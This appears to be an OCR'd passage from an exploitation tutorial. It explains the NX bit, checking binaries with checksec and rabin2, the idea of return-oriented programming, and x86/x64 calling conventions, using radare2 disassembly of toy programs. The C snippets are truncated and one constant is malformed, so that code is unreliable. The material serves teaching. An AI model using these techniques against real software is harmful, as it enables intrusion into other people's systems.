Skip to content

Binary Exploitation - Stack

No eXecute

The defense against shellcode

As you can expect, programmers were hardly pleased that people could inject their own instructions into the program. The NX bit, which stands for No eXecute, defines areas of memory as either instructions or data. This means that your input will be stored as data, and any attempt to run it as instructions will crash the program, effectively neutralizing the shellcode.

To get around NX, exploit developers have to leverage a technique called ROP, Return-Oriented Programming.

The Windows version of NX is DEP, which stands for Data Execution Prevention

Checking for NX

You can either use pwntools' checksec or rabin2.

$ checksec vuln
[*] 'vuln'
    Arch:     i386-32-little
    RELRO:    Partial RELRO
    Stack:    No canary found
    NX:       NX disabled
    PIE:      No PIE (0x8048000)
    RWX:      Has RWX segments
$ rabin2 -I vuln
nx       false

Return-Oriented Programming

Bypassing NXThe basis of ROP is chaining together small chunks of code already present within the binary itself in such a way as to do what you wish. This often involves passing parameters to functions already present within libc, such as system - if you can find the location of a command, such as cat flag.txt, and then pass it as a parameter to the system, it will execute that command and return the output. A more dangerous command is /bin/sh, which when run by the system gives the attacker a shell much like the shellcode we used did.

Doing this, however, is not as simple as it may seem at first. To be able to properly call functions, we first have to understand how to pass parameters to them.

Calling Conventions

A more in-depth look into parameters for 32-bit and 64-bit programs

One Parameter



Let's have a quick look at the source:

#include <stdio.h>

void vuln(int check) {
    if(check == 0xdeadbeef) {
    } else {
        puts("Not nice!");

int main() {Pretty simple.

If we run the 32-bit and 64-bit versions, we get the same output:

Not nice!

Just what we expected.

Analyzing 32-bit

Let's open the binary up in radare2 and disassemble it.

$ r2 -d -A vuln-32
$ s main; pdf

0x080491ac      8d4c2404       lea ecx, [argv]
0x080491b0      83e4f0         and esp, 0xfffffff0
0x080491b3      ff71fc         push dword [ecx - 4]
0x080491b6      55             push ebp
0x080491b789e5           mov ebp, esp
0x080491b9      51             push ecx
0x080491ba      83ec04         sub esp, 4
0x080491bd      e832000000     call
0x080491c2      053e2e0000     add eax, 0x2e3e
0x080491c7      83ec0c         sub esp, 0xc
0x080491ca      68efbeadde     push 0xdeadbeef
0x080491cfe88effffff     call sym.vuln
0x080491d4      83c410         add esp, 0x10
0x080491d7      83ec0c         sub esp, 0xc
0x080491da      68dec0adde     push 0xdeadc0de
0x080491df      e87effffff     call sym.vuln
0x080491e4      83c410         add esp, 0x10
0x080491e7      b800000000     mov eax, 0
0x080491ec      8b4dfc         mov ecx, dword [var_4h]
0x080491ef      c9             leave
0x080491f0      8d61fc         lea esp, [ecx - 4]
0x080491f3      c3             ret

If we look closely at the calls to sym.vuln, we see a pattern:

push 0xdeadbeef
call sym.vuln
push 0xdeadc0de
call sym.vuln

We literally push the parameter to the stack before calling the function. Let's break on sym.vuln.

[0x080491ac]> db sym.vuln
[0x080491ac]> dc
hit breakpoint at: 8049162
[0x08049162]> pxw @ esp
0xffdeb54c      0x080491d4 0xdeadbeef 0xffdeb624 0xffdeb62c

The first value there is the return pointer that we talked about before - the second, however, is the parameter. This makes sense because the return pointer gets pushed during thecall, so it should be at the top of the stack. Now let's disassemble sym.vuln.

┌ 74: sym.vuln (int32_t arg_8h);
│           ; var int32_t var_4h @ ebp-0x4
│           ; arg int32_t arg_8h @ ebp+0x8
│           0x08049162 b    55             push ebp
│           0x08049163      89e5           mov ebp, esp
│           0x08049165      53             push ebx
│           0x08049166      83ec04         sub esp, 4│           0x08049169      e886000000     call
│           0x0804916e      05922e0000     add eax, 0x2e92
│           0x08049173      817d08efbead.  cmp dword [arg_8h], 0xdeadbeef
│       ┌─<0x0804917a      7516           jne 0x8049192
│       │   0x0804917c      83ec0c         sub esp, 0xc
│       │   0x0804917f      8d9008e0ffff   lea edx, [eax - 0x1ff8]
│       │   0x08049185      52             push edx
│       │   0x08049186      89c3           mov ebx, eax
│       │   0x08049188      e8a3feffff     call sym.imp.puts           ; int puts(const char *s)
│       │   0x0804918d      83c410         add esp, 0x10
│      ┌──< 0x08049190      eb14           jmp 0x80491a6
│      │└─> 0x08049192      83ec0c         sub esp, 0xc
│      │    0x08049195      8d900ee0ffff   lea edx, [eax - 0x1ff2]
│      │    0x0804919b      52             push edx
│      │    0x0804919c      89c3           mov ebx, eax
│      │    0x0804919e      e88dfeffff     call sym.imp.puts           ; int puts(const char *s)
│      │    0x080491a3      83c410         add esp, 0x10
│      │    ; CODE XREF from sym.vuln @ 0x8049190
│      └──> 0x080491a6      90             nop
│           0x080491a7      8b5dfc         mov ebx, dword [var_4h]
│           0x080491aa      c9             leave
└           0x080491ab      c3             ret

Here I'm showing the full output of the command because a lot of it is relevant. radare2 does a great job of detecting local variables - as you can see at the top, there is one calledarg_8h. Later this same one is compared to 0xdeadbeef:

cmp dword [arg_8h], 0xdeadbeef

Clearly, that's our parameter.

So now we know,when there's one parameter, it gets pushed to the stack so that the stack looks like this:

return address        param_1

Analyzing 64-bit

Let's disassemble the main again here.

0x00401153      55             push rbp
0x00401154      4889e5         mov rbp, rsp
0x00401157      bfefbeadde     mov edi, 0xdeadbeef
0x0040115c      e8c1ffffff     call sym.vuln
0x00401161      bfdec0adde     mov edi, 0xdeadc0de
0x00401166      e8b7ffffff     call sym.vuln
0x0040116b      b800000000     mov eax, 0
0x004011705d             pop rbp
0x00401171      c3             ret

Hohoho, it's different. As we mentioned before, the parameter gets moved to rdi (in the disassembly here it's edi, but edi is just the lower 32 bits of rdi, and the parameter is only 32 bits long, so it says EDI instead). If we break on sym.vuln again we can check rdi with the command

dr rdi

Just dr will display all registers

[0x00401153]> db sym.vuln
[0x00401153]> dc
hit breakpoint at: 401122
[0x00401122]> dr rdi


Registers are used for parameters, but the return address is still pushed onto the stack and in ROP is placed right after the function address

Multiple Parameters



#include <stdio.h>void vuln(int check, int check2, int check3) {
    if(check == 0xdeadbeef && check2 == 0xdeadc0de && check3 == 0xc0ded00d) {
    } else {
        puts("Not nice!");

int main() {
    vuln(0xdeadbeef, 0xdeadc0de,0xc0ded00d);
    vuln(0xdeadc0de, 0x12345678, 0xabcdef10);


We've seen the full disassembly of an almost identical binary, so I'll only isolate the important parts.

0x080491dd      680dd0dec0     push 0xc0ded00d
0x080491e2      68dec0adde     push 0xdeadc0de
0x080491e7      68efbeadde     push 0xdeadbeef
0x080491ec      e871ffffff     call sym.vuln
0x080491f7      6810efcdab     push 0xabcdef10
0x080491fc      6878563412     push 0x12345678
0x08049201      68dec0adde     push 0xdeadc0de
0x08049206      e857ffffff     call sym.vuln

It's just as simple - push them in reverse order of how they're passed in. The reverse order becomes helpful when you db sym.vuln and print out the stack.

[0x080491bf]> db sym.vuln[0x080491bf]> dc
hit breakpoint at: 8049162
[0x08049162]> pxw @ esp
0xffb45efc      0x080491f1 0xdeadbeef 0xdeadc0de 0xc0ded00d

So it becomes quite clear how more parameters are placed on the stack:

return pointer        param1        param2        param3        [...]        paramN


0x00401170      ba0dd0dec0     mov edx, 0xc0ded00d
0x00401175      bedec0adde     mov esi, 0xdeadc0de
0x0040117a      bfefbeadde     mov edi, 0xdeadbeef
0x0040117f      e89effffff     call sym.vuln
0x00401184      ba10efcdab     mov edx, 0xabcdef100x00401189      be78563412     mov esi, 0x12345678
0x0040118e      bfdec0adde     mov edi, 0xdeadc0de
0x00401193      e88affffff     call sym.vuln

So as well as rdi, we also push to rdx and rsi (or, in this case, their lower 32 bits).

Bigger 64-bit values

Just to show that it is in fact ultimately rdi and not edi that is used, I will alter the original one-parameter code to utilize a bigger number:

#include <stdio.h>

void vuln(long check) {
    if(check == 0xdeadbeefc0dedd00d) {

int main() {

If you disassemble the main, you can see it disassembles to

movabs rdi, 0xdeadbeefc0ded00d
call sym.vuln

movabs can be used to encode the mov instruction for 64-bit instructions - treat it as if it's a mov.Controlling execution with snippets of code

